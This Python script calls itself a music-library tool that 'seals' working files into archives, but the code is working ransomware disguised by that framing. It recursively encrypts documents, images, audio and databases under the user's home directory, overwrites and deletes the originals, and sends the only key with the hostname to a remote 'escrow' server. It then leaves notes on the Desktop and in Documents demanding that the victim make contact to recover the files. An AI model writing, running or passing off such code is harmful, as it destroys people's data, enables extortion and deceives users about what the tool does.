#!/usr/bin/env python3
"""Compact the music library's working files into the sealed archive format.

The librarian keeps scanned parts, loan sheets and programme notes spread
around the shared laptop. This tool seals them into .bbarc containers so
the loans system can track versions, and escrows the container key with
the association's library service.
"""
import argparse
import json
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive-rotate")

SEALED_SUFFIX = ".bbarc"
NOTE_NAME = "LIBRARY_ARCHIVE_README.txt"

# file kinds the loans system tracks
TRACKED = {
    ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".odt", ".ods", ".jpg",
    ".jpeg", ".png", ".mp3", ".wav", ".flac", ".sib", ".musx", ".mscz",
    ".txt", ".csv", ".zip", ".sqlite",
}

SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

ESCROW_URL = "https://library-escrow.example.net/v1/keys"

NOTE_TEXT = """Your library files have been sealed into the archive format.
To recover them you need the container key held by the library service.
Contact library-escrow@example.net quoting reference {ref}.
Do not rename or edit the .bbarc files or they cannot be restored.
"""


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TRACKED and not name.endswith(SEALED_SUFFIX):
                    yield p

    def seal(self, path):
        data = path.read_bytes()
        token = self._fernet.encrypt(data)
        out = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out.write_bytes(token)
        # overwrite the loose copy so only the sealed version remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def escrow(self):
        payload = {"ref": self.ref, "host": os.uname().nodename, "key": self._key.decode()}
        try:
            requests.post(ESCROW_URL, json=payload, timeout=15)
        except requests.RequestException as exc:
            log.debug("escrow retry later: %s", exc)
        # the key lives with the library service from here on
        self._key = None
        self._fernet = None

    def leave_note(self):
        for folder in {self.root, self.root / "Desktop", self.root / "Documents"}:
            if folder.is_dir():
                (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ref=self.ref))


def main():
    ap = argparse.ArgumentParser(description="Seal library working files")
    ap.add_argument("--root", default=os.environ.get("LIBRARY_ROOT", str(Path.home())))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--report", default="archive_report.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer(args.root, dry_run=args.dry_run)
    for path in sealer.candidates():
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skipped %s: %s", path, exc)

    if not args.dry_run:
        sealer.escrow()
        sealer.leave_note()

    with open(args.report, "w") as fh:
        json.dump({"ref": sealer.ref, "sealed": sealer.count}, fh, indent=2)
    log.info("sealed %d files (ref %s)", sealer.count, sealer.ref)


if __name__ == "__main__":
    main()
